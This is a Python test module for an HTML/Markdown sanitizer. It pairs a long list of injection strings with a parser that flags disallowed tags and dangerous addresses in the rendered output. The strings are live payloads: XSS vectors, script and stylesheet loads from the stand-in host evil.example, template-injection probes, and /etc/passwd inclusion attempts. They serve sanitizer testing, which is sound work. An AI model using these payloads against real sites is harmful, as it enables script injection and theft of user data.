"""Words that try to become more than words, and a reader of HTML that notices when they do."""

from __future__ import annotations

from html.parser import HTMLParser

STRINGS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div markdown onclick=alert(1)>x</div>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    '[x](https://example.org/" onmouseover="alert(1))',
    "[x](https://example.org/' onmouseover='alert(1))",
    '[x](https://example.org/ "title" onclick=alert(1))',
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/x.png)",
    "wow![x](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "x {: onclick=alert(1) }",
    "**x**{: onclick=alert(1) }",
    "[x](https://example.org){: onclick=alert(1) }",
    "x\n{: onclick=alert(1) }",
    "{ #x onclick=alert(1) }",
    "{{ config.items() }}{% raw %}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    '!!! note "x"\n    <script>alert(1)</script>',
    '??? note "x"\n    hidden',
    '--8<-- "/etc/passwd"',
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n<script>alert(1)</script>\n~~~",
    "`<script>alert(1)</script>`",
    "*[HTML]: <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "x | <script>alert(1)</script> | y",
    "# x { onclick=alert(1) }",
    "x\n===\n\ny\n---",
    "1. x\n2. <script>alert(1)</script>",
    "$$\\require{x}$$ ==x== ^^x^^ ~~x~~ ++x++ {++x++} {--x--} :smile:",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\x02wzxhzdk:0\x03 klzzwxh:0001",
    "/// html | div[onclick='alert(1)']\nx\n///",
    "[TOC]",
    '=== "x"\n    y',
    "- [ ] x",
    "Term\n:   <script>alert(1)</script>",
    "---\ntitle: </title><script>alert(1)</script>\n---",
    "{% include '/etc/passwd' %}",
    "\u202e<script>\u2028alert(1)</script>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[a](https://example.org/a_(b)_*c*)",
    "*" * 30 + "[" * 30 + "`" * 29,
]

ALLOWED = {"strong", "em", "code", "a", "p", "ul", "ol", "li"}
"""What words may become."""


class Noticed(HTMLParser):
    """Which tags and attributes stand on a page, and every address that it points to."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[tuple[str, str]] = set()
        self.addresses: set[str] = set()
        self.scripts = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags |= {(tag, name) for name, _value in attrs} | {(tag, "")}
        self.addresses |= {(value or "") for name, value in attrs if name in ("href", "src", "action", "srcset")}
        self.scripts += tag == "script"

    def beyond(self, harmless: Noticed) -> set[tuple[str, str]]:
        """Tags and attributes that the harmless page has not, and that words may not become."""
        return {
            (tag, name) for tag, name in self.tags - harmless.tags if tag not in ALLOWED or name not in ("", "href")
        }

    @property
    def dangerous(self) -> set[str]:
        """Addresses that run something, or that fetch from another host."""
        schemes = ("javascript:", "data:", "vbscript:", "//", "\\\\")
        return {one for one in self.addresses if "".join(one.lower().split()).startswith(schemes)}
